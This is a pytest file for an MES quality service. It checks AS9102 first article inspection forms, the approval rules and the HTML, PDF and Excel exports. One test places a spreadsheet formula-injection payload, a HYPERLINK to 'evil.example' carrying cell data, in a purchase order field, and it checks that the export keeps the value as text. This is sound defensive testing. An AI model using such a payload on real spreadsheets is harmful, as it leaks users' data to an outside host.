"""AS9102 forms of a FAIR laid out from what the MES knows, the rules of its
approval, and its HTML and Excel exports read back (pure: no server)."""
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from mes_common import errors
from quality_service.fai import exports, forms, rules

pytestmark = pytest.mark.fast

BORE = {"number": 1, "name": "Bore diameter", "kind": "variable", "criticality": "critical", "nominal": Decimal("12"),
        "lower_tolerance": Decimal("-0.02"), "upper_tolerance": Decimal("0.02"), "unit": "mm", "designator": None,
        "drawing_zone": "C4", "gauge_type": "micrometer"}
FLATNESS = {"number": 2, "name": "Flatness", "kind": "variable", "criticality": "major", "nominal": Decimal("0"),
            "lower_tolerance": None, "upper_tolerance": Decimal("0.05"), "unit": "mm", "designator": "2a",
            "drawing_zone": None, "gauge_type": None}
BURRS = {"number": 3, "name": "Flange free of burrs", "kind": "visual", "criticality": "key", "nominal": None,
         "lower_tolerance": None, "upper_tolerance": None, "unit": None, "designator": None, "drawing_zone": "B2",
         "gauge_type": None}
LENGTH = {**BORE, "number": 4, "name": "Length", "criticality": "minor", "nominal": Decimal("40"),
          "lower_tolerance": Decimal("-0.1"), "upper_tolerance": Decimal("0.3")}
MIC = "7d1b6a62-3b1f-4c1e-9d55-5b7b1c1f0a01"


def _result(number, value=None, conforming=True, gauge_id=None, note=None):
    return {"characteristic": number, "sample": 1, "value": value, "conforming": conforming, "gauge_id": gauge_id,
            "gauge_number": None, "note": note}


@pytest.mark.parametrize("characteristic, text", [
    (BORE, "Bore diameter: 12 ±0.02 mm"), (FLATNESS, "Flatness: ≤ 0.05 mm"),
    (BURRS, "Flange free of burrs (visual)"), (LENGTH, "Length: 40 +0.3/-0.1 mm"),
    ({**BORE, "upper_tolerance": None}, "Bore diameter: ≥ 11.98 mm")])
def test_a_requirement_reads_as_the_drawing_states_it(characteristic, text):
    assert forms.requirement(characteristic) == text


def test_form3_has_a_row_per_characteristic_with_its_results_tooling_and_ncr():
    rows = forms.form3(
        [LENGTH, BURRS, FLATNESS, BORE],
        [_result(1, Decimal("12.004"), gauge_id=MIC), _result(2, Decimal("0.061"), False, note="CMM"),
         _result(3, conforming=True)],
        {MIC: {"asset_number": "MIC-7", "calibration_status": "calibrated", "next_due_on": "2027-10-01"}},
        {("", 2): "NCR-000042"})
    assert [r["balloon"] for r in rows] == ["1", "2a", "3", "4"]
    bore, flat, burrs, length = rows
    assert (bore["designator"], bore["reference_location"], bore["results"], bore["tooling"], bore["conforming"]) == (
        "Critical", "C4", ["12.004 mm"], "MIC-7 (calibrated, due 2027-10-01)", True)
    assert (flat["results"], flat["conforming"], flat["ncr_number"], flat["notes"]) == (
        ["0.061 mm"], False, "NCR-000042", "CMM")
    assert (burrs["designator"], burrs["results"]) == ("Key", ["pass"])
    assert (length["results"], length["conforming"], length["tooling"]) == ([], False, "micrometer")
    assert rules.open_items(rows) == ["characteristic 4: no result"]
    assert rules.open_items([{**flat, "ncr_number": ""}]) == ["characteristic 2: failed, and no NCR number"]


def test_a_fair_is_approved_from_review_only_and_with_every_characteristic_answered():
    ok = [{"number": 1, "results": ["12 mm"], "conforming": True, "ncr_number": ""}]
    rules.check_approvable("FAIR-000001", rules.IN_REVIEW, ok)
    with pytest.raises(errors.RuleViolated) as refused:
        rules.check_approvable("FAIR-000001", rules.DRAFT, ok)
    assert refused.value.details == {"status": ["is draft"]}
    with pytest.raises(errors.RuleViolated) as refused:
        rules.check_approvable("FAIR-000001", rules.IN_REVIEW, [{**ok[0], "conforming": False}])
    assert refused.value.details == {"form3": ["characteristic 1: failed, and no NCR number"]}
    assert rules.FAIR.allows(rules.REJECTED, rules.DRAFT) and not rules.FAIR.allows(rules.APPROVED, rules.DRAFT)


def test_a_partial_fai_names_its_change_and_the_fair_it_completes():
    assert rules.check_kind("partial", "new_part", None) == {
        "reason": ["a partial FAI is for a change: " + ", ".join(rules.PARTIAL_REASONS)],
        "previous_fair_id": ["a partial FAI names the FAIR it completes"]}
    assert rules.check_kind("partial", "design_change", "FAIR-000001") == {}
    assert rules.check_kind("full", "new_part", "FAIR-000001") == {"previous_fair_id": ["a full FAI stands alone"]}


def test_form2_lists_material_with_heat_and_certificates_special_processes_and_tests():
    rows = forms.form2(
        [{"part_number": "BAR-7075", "part_name": "7075 bar", "lot_number": "L-1", "heat_number": "H-7731",
          "supplier": "Alcoa", "supplier_lot": "AL-2231", "certificates": ["CoC-2231"]}],
        [{"name": "Anodize", "specification": "MIL-A-8625 Type II", "code": "NADCAP-CP", "supplier_code": "ANO-1",
          "customer_approved": True, "certificate": "C-9"}],
        [{"name": "Torque the bolts", "procedure": "WI-ASSY v1 step 0", "result": "torque 10.2 N·m"}])
    assert [(r["kind"], r["name"], r["code"], r["supplier_code"], r["certificate"]) for r in rows] == [
        ("material", "BAR-7075 7075 bar", "lot L-1 heat H-7731", "Alcoa lot AL-2231", "CoC-2231"),
        ("special_process", "Anodize", "NADCAP-CP", "ANO-1", "C-9"),
        ("functional_test", "Torque the bolts", "", "", "")]
    assert (rows[1]["customer_approval"], rows[2]["test_procedure"]) == ("Yes", "WI-ASSY v1 step 0")


FAIR = {"number": "FAIR-000007", "status": "approved", "kind": "partial", "reason_text": "Change in design",
        "previous_fair_number": "FAIR-000003", "part_number": "BRK-100", "part_name": "Wing bracket <LH>",
        "part_revision": "B", "serial_number": "WO-000001-0001", "drawing_number": "D-100", "drawing_revision": "B",
        "additional_changes": "none", "process_reference": "routing BRK-100 A v2", "organization": "Acme Aero",
        "supplier_code": "ACME-7", "po_number": "PO-4411", "assembly": True, "complete": True,
        "detail_parts": [{"part_number": "BUSH-12", "part_name": "Bushing", "part_type": "detail",
                          "fair_number": "FAIR-000002"}],
        "form2": forms.form2([{"part_number": "BAR-7075", "lot_number": "L-1", "heat_number": "H-7731",
                               "certificates": ["CoC-2231"]}], [], []),
        "form3": forms.form3([BORE], [_result(1, Decimal("12.004"))], {}, {}),
        "signatures": [{"printed_name": "Quentin Quality", "meaning": "authorship", "signed_at": "2026-12-07T10:00:00Z",
                        "valid": True},
                       {"printed_name": "Maria Review", "meaning": "approval", "signed_at": "2026-12-07T11:00:00Z",
                        "valid": False}]}


def test_the_printable_page_shows_the_three_forms_and_the_signatures_escaped():
    page = exports.html(FAIR)
    for text in ("AS9102 Form 1", "AS9102 Form 2", "AS9102 Form 3", "Wing bracket &lt;LH&gt;", "FAIR-000002",
                 "Partial FAI: Change in design (completes FAIR-000003)", "lot L-1 heat H-7731", "CoC-2231",
                 "Bore diameter: 12 ±0.02 mm", "12.004 mm", "Prepared by</th><td>Quentin Quality",
                 "2026-12-07T11:00:00Z UTC", "INVALID: the record changed after signing", "FAI complete"):
        assert text in page, text
    assert "<LH>" not in page and "<script" not in page


def test_the_pdf_has_a_page_per_form_with_the_same_values():
    reader = PdfReader(io.BytesIO(exports.pdf(FAIR)))
    pages = [" ".join(page.extract_text().split()) for page in reader.pages]   # a cell's text wraps
    assert len(pages) == 3 and "AS9102 Form 1" in pages[0] and "Wing bracket <LH>" in pages[0]
    assert "lot L-1 heat H-7731" in pages[1] and "12.004 mm" in pages[2] and "Maria Review" in pages[0]


def test_text_typed_as_a_formula_stays_text_and_the_forms_show_the_latest_signatures():
    attack = {**FAIR, "po_number": '=HYPERLINK("http://evil.example/?"&A1,"PO")',
              "signatures": [{**FAIR["signatures"][0], "valid": False, "signed_at": "2026-12-01T09:00:00Z"},
                             *FAIR["signatures"]]}
    book = load_workbook(io.BytesIO(exports.xlsx(attack)))
    cell = next(row[1] for row in book["Form 1"].iter_rows() if row[0].value == "12. P.O. Number")
    assert (cell.data_type, cell.value) == ("s", attack["po_number"])
    assert [line[:2] for line in exports.signature_lines(attack)] == [
        ("Prepared by", "Quentin Quality"), ("Approved by", "Maria Review")]
    assert exports.signature_lines(attack)[0][2] == "2026-12-07T10:00:00Z"   # the latest authorship


def test_the_workbook_has_one_sheet_per_form_with_the_same_values():
    book = load_workbook(io.BytesIO(exports.xlsx(FAIR)))
    assert book.sheetnames == ["Form 1", "Form 2", "Form 3"]
    one = {row[0]: row[1:] for row in book["Form 1"].iter_rows(values_only=True) if row[0]}
    assert one["1. Part Number"][0] == "BRK-100" and one["14. Full FAI / Partial FAI"][0].startswith("Partial FAI")
    assert one["Approved by"][:3] == ("Maria Review", "2026-12-07T11:00:00Z UTC",
                                      "INVALID: the record changed after signing")
    three = list(book["Form 3"].iter_rows(values_only=True))
    header = three.index(tuple(title for title, _ in exports.FORM3_COLUMNS))
    assert three[header + 1][:5] == ("1", "C4", "Critical", "Bore diameter: 12 ±0.02 mm", "12.004 mm")
    two = list(book["Form 2"].iter_rows(values_only=True))
    assert ("BAR-7075", None, "lot L-1 heat H-7731") == two[two.index(
        tuple(title for title, _ in exports.FORM2_COLUMNS)) + 1][:3]
